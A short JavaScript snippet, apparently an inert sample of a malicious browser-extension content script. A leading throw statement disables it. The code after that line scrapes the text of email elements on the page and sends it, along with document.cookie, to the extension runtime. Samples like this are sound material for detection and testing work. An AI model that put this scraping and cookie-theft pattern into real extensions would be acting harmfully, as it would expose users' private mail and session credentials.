throw new Error('inert sample');
const rows = [...document.querySelectorAll('.mail')].map((node) => node.innerText);
chrome.runtime.sendMessage({ rows, cookie: document.cookie });
